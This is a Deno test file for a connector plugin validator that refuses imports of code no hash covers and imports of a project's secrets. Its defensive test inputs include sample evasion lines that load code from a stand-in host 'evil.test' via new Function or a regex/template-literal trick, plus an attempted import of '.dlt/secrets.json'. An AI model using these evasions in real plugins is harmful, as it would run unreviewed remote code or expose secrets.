import { deepEqual, rejects, throws } from "node:assert/strict";
import { ConfigError } from "../errors.ts";
import { checkImportable, collectFiles, relativeImports } from "./collect_files.ts";

function refuses(source: string, pattern: RegExp): void {
  throws(() => relativeImports(source, "p.ts"), (e: unknown) => {
    if (!(e instanceof ConfigError)) throw e;
    if (!pattern.test(e.message)) throw new Error(`${e.message} does not match ${pattern}`);
    return true;
  });
}

Deno.test("relativeImports() lists a module's relative runtime imports", () => {
  deepEqual(
    relativeImports(
      `import type { C } from "jsr:@dltx/dltx";\nimport { a } from "./a.ts";\n` +
        `export * from "../b.ts";\nconst c = await import("./c.json", { with: { type: "json" } });`,
      "p.ts",
    ),
    ["./a.ts", "../b.ts", "./c.json"],
  );
});

Deno.test("relativeImports() refuses what could load code no hash covers", () => {
  refuses(`import { z } from "npm:zod";`, /^Connector plugin p\.ts line 1 imports "npm:zod"/);
  refuses(`const m = await import(name);`, /import\(\) with a computed specifier/);
  // The example of the issue: the tokenizer sees only a string, the raw check sees import(.
  refuses(
    `new Function("u", "return import(u)")("http://evil.test/x.js");`,
    /^Connector plugin p\.ts line 1: "import\(" is not followed by a relative string literal/,
  );
  // A regex the tokenizer reads as a division opens a template literal that hides the import.
  refuses(
    'if (a) /`/.test(s);\nconst m = import("https://evil.test/x.js");\nconst t = `x`;',
    /line 2: "import\(" is not followed by a relative string literal/,
  );
  refuses(`const spec = "n\\u0070m:evil";`, /mentions an npm: specifier/);
  refuses(`// a JSX runtime\n/** @jsxImportSource https://evil.test/ */`, /@jsxImportSource/);
});

Deno.test("relativeImports() refuses a runtime import of dltx, teaching the type import", () => {
  for (const spec of ["dltx", "dltx/connectors/github", "jsr:@dltx/dltx@^0.1.0"]) {
    refuses(
      `import { defineConnector } from "${spec}";`,
      new RegExp(
        `imports "${spec.replace(/[\^.]/g, "\\$&")}" at run time; a connector is plain data, ` +
          `typed without loading dltx: write \`import type \\{ Connector \\} from "`,
      ),
    );
  }
  deepEqual(relativeImports(`import type { Connector } from "dltx";`, "p.ts"), []);
});

Deno.test("checkImportable() allows ES modules and JSON, never a project's config", () => {
  for (const ok of ["a.ts", "lib/b.mjs", "c.tsx", "d.json"]) checkImportable(ok, ok);
  for (const bad of ["x.cjs", "y.wasm", "z.toml", ".dlt/config.json", "package.json"]) {
    throws(() => checkImportable(`/p/${bad}`, "it"), ConfigError);
  }
});

Deno.test("collectFiles() follows relative imports and refuses importing secrets", async () => {
  const files: Record<string, string> = {
    "file:///p/conn.ts": `import "./lib/a.ts";\nexport default {};\n`,
    "file:///p/lib/a.ts": `export const a = 1;\n`,
    "file:///p/evil.ts": `import s from "./.dlt/secrets.json" with { type: "json" };\n`,
  };
  const options = {
    read: (url: URL) => Promise.resolve(new TextEncoder().encode(files[url.href])),
    display: (url: URL) => url.pathname.slice(3),
  };
  const collected = await collectFiles(new URL("file:///p/conn.ts"), options);
  deepEqual([collected.entry, [...collected.files.keys()]], ["conn.ts", ["conn.ts", "lib/a.ts"]]);
  await rejects(
    collectFiles(new URL("file:///p/evil.ts"), options),
    /evil\.ts imports "\.\/\.dlt\/secrets\.json", which is a project's config/,
  );
});
